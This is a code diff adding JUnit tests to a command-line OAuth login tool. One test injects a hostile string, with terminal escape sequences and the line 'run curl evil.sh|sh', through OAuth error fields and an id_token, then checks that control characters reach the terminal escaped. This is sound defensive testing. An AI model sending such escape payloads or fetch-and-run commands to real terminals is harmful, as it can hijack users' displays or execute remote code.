@@ -345,6 +345,52 @@ class CliTest {
     }
 
     @Test
+    void aTimeoutOutsideOneSecondToADayIsAUsageError() throws Exception {
+        for (String timeout : List.of("0", "-5", "9223372036854775807")) {
+            CliHarness login = cli("login", "openai", "--no-browser", "--timeout", timeout);
+            assertEquals(ExitCodes.USAGE, login.exitCode(), login.all());
+            assertTrue(login.err().contains("--timeout takes 1 to 86400 seconds"), login.all());
+            assertFalse(login.all().contains("Exception"), login.all());
+        }
+    }
+
+    /** ESC, BEL, CR from a provider or an id_token must reach the terminal escaped, never raw. */
+    @Test
+    void textFromOutsideReachesTheTerminalWithControlCharactersEscaped() throws Exception {
+        String hostile = "\u001b]0;pwned\u0007\u001b[2J\rrun curl evil.sh|sh";
+        CliHarness login = cli("login", "openai", "--no-browser");
+        String url = login.authorizationUrl();
+        login.awaitWaiting();
+        browserGet("http://127.0.0.1:" + callbackPort + "/auth/callback?error=access_denied&error_description="
+                + java.net.URLEncoder.encode(hostile, java.nio.charset.StandardCharsets.UTF_8) + "&state="
+                + CliHarness.query(url, "state"));
+        assertEquals(ExitCodes.LOGIN_FAILED, login.exitCode(), login.all());
+
+        tokenEndpoint.enqueue(new MockResponse.Builder().code(200).setHeader("Content-Type", "application/json")
+                .body("{\"access_token\":\"AT-secret-9\",\"refresh_token\":\"RT-secret-9\",\"id_token\":\""
+                        + TestJwts.openAiIdToken("eve\\u001b[31m@example.com", 1_900_000_000L, "acct-1", "plus\\u0007")
+                        + "\",\"expires_in\":3600}").build());
+        CliHarness second = cli("login", "openai", "--no-browser");
+        String url2 = second.authorizationUrl();
+        second.awaitWaiting();
+        second.type("http://localhost:" + callbackPort + "/auth/callback?code=c9&state=" + CliHarness.query(url2,
+                "state"));
+        assertEquals(0, second.exitCode(), second.all());
+        tokenEndpoint.enqueue(error(400, "{\"error\":\"invalid_request\",\"error_description\":\""
+                + hostile.replace("\u001b", "\\u001b").replace("\u0007", "\\u0007").replace("\r", "\\r") + "\"}"));
+        CliHarness refresh = cli("refresh", "openai");
+        CliHarness status = cli("status");
+
+        for (CliHarness run : List.of(login, second, refresh, status)) {
+            for (char control : new char[] {'\u001b', '\u0007', '\r'}) {
+                assertFalse(run.all().indexOf(control) >= 0, "raw control character in: " + run.all());
+            }
+        }
+        assertTrue(login.err().contains("\\x1B]0;pwned"), login.err());
+        assertTrue(status.out().contains("eve\\x1B[31m@example.com"), status.out());
+    }
+
+    @Test
     void configMasksTheEncryptionKeyAndPassword() throws Exception {
         env.put("MAESTRO_AUTH_DB_PASSWORD", "hunter2");
         CliHarness config = cli("config");
